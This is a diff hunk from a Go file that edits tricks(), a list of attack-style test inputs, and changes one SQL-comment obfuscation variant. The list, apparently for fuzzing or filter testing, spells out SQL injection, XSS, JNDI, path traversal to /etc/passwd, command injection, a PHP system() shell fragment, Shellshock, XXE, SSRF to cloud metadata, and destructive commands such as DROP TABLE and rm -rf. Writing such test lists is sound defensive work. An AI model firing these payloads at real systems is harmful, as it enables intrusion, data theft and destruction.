@@ -153,7 +153,7 @@ func tricks() []string {
 	return []string{
 		"1' OR '1'='1", "1 UNION SELECT password FROM users--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://x.test/a}", "../../../../etc/passwd", "..%c0%af..%c0%afetc/passwd",
 		";cat /etc/passwd", "|| ping -c 1 x.test", "$(id)", "`id`", "php://filter/convert.base64-encode/resource=x", "<?php system($_GET[1]);", "{{7*7}}", "%{(#a=1)}", "javascript:alert(1)",
-		"\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript", "\xff\xfe<\x00s\x00", "%u003cscript%u003e", "&lt;script&gt;", "&#x3c;script&#62;", "\\u003cscript\\x3e", "sel/**/ect", "un/*x*/ion/*y*/select",
+		"\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript", "\xff\xfe<\x00s\x00", "%u003cscript%u003e", "&lt;script&gt;", "&#x3c;script&#62;", "\\u003cscript\\x3e", "se/**/lect", "un/*x*/ion/*y*/select",
 		"/*!50000UNION*/ SELECT 1", "a\x00b", "K\u212Aelvin", "ſcript", "\u00a0\u00a0x", "c^md /c di\"r", "r\\m -r'f' /", "%2e%2e%2f", "%252e%252e%252f", "--%0a1", "\r\nSet-Cookie: a=b", "\nHost: x", "%0d%0aX: y",
 		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "x' AND SLEEP(5) AND 'a'='a", "1;DROP TABLE users", "1e309", "0x61646d696e", "constructor.__proto__[x]", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
 		"O:8:\"stdClass\":0:{}", "() { :;}; echo x", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>", "<xml:namespace>", "eval(atob('x'))", "window['alert'](1)", ")))))((((", "''''''\"\"\"\"", "%%%%", "%", "%4", "%zz", "&&&", "===", ";;;",
